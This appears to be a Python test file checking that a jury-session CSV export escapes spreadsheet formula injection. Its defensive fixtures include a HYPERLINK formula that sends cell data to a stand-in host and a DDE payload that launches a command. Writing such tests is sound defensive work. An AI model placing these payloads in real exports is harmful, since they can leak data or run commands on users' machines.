"""The export's CSV files open in a spreadsheet: no cell may run as a formula there."""

from __future__ import annotations

import csv
import io
import zipfile

from ntc_jury.minutes.export import COLUMNS, _csv, session_zip, tables
from tests.factories import make_session


def _rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A2,"Voir")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,1)",
        "-2+3",
        "@SUM(A1)",
        "\tcaché",
        "\rcaché",
    ]

    [row] = _rows(_csv([{f"c{i}": text for i, text in enumerate(hostile)}]))

    assert list(row.values()) == ["'" + text for text in hostile]


def test_ordinary_values_are_written_as_they_are():
    values = {
        "name": "Dupont",
        "note": "Bonne écoute — reformule",
        "count": -3,
        "empty": "",
        "tags": ["a", "b"],
    }

    [row] = _rows(_csv([values]))

    assert row == {
        "name": "Dupont",
        "note": "Bonne écoute — reformule",
        "count": "-3",
        "empty": "",
        "tags": '["a", "b"]',
    }


def test_an_empty_table_still_has_its_header_line():
    body = _csv([], ("candidate_id", "text"))
    assert body == "\ufeffcandidate_id;text\r\n".encode()
    assert _rows(body) == []


def test_every_table_of_the_export_has_the_columns_its_header_names(built):
    data = tables(built.session)
    for name, rows in data.items():
        for row in rows:
            assert tuple(row) == COLUMNS[name], name
    assert set(data) == set(COLUMNS)


def test_the_results_file_of_a_session_without_candidates_has_its_header(db, ntc):
    session = make_session(ntc, candidates=0)
    db.session.commit()
    archive = zipfile.ZipFile(io.BytesIO(session_zip(session)[0]))
    results = archive.read("resultats.csv").decode("utf-8-sig")
    assert results == "N° de candidat;Nom;Prénom;Parcours;Présence;CCP1;CCP2;Titre\r\n"
    incidents = archive.read("csv/incidents.csv").decode("utf-8-sig")
    assert incidents == "candidate_id;candidate_number;kind;text;reported_by;reported_at\r\n"
